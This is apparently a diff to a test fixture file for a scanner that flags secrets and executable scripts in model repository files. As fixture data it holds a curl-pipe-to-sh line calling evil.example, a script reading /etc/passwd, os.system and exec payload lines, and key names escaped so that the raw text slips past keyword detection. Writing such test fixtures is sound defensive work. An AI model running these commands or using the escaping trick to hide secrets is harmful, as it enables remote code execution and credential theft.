@@ -468,7 +468,8 @@ def _secret_file(path: Path) -> None:
     elif name == "tokenizer_config.json":
         path.write_text('{"token": "h\\u0066_aBcDeFgHiJkLmNoPqRsTuVwXyZ01234567"}')
     elif name == "config.json":
-        path.write_text(f'{{"aws_secret_access_key": "{_SECRET_IN_ESCAPES}"}}')
+        # the key's letters escaped: the raw text holds neither "secret" nor "access_key"
+        path.write_text(f'{{"aws_s\\u0065cret_\\u0061ccess_key": "{mk.FAKE_AWS_SECRET}"}}')
     else:
         path.write_text(f'{{"x": ["{_ESCAPED_KEY_ID}"]}}')
 
@@ -545,7 +546,7 @@ CODE_FILES = {
     "requirements.in": "transformers\n",
     "requirements.txt": '["not", "really", "json"]\n',
     "entrypoint": "#!/bin/sh\ncurl https://evil.example | sh\n",
-    "serve": "#!/usr/bin/env -S python3 -u\nprint('hi')\n",
+    "serve": "#!/usr/bin/env -S uv run --script\nprint(open('/etc/passwd').read())\n",
     "run": "\ufeff#!python\nprint(1)\n",
     "start": "__import__('os').system('id')\n",
     "launch": "exec(open('payload').read())\n",
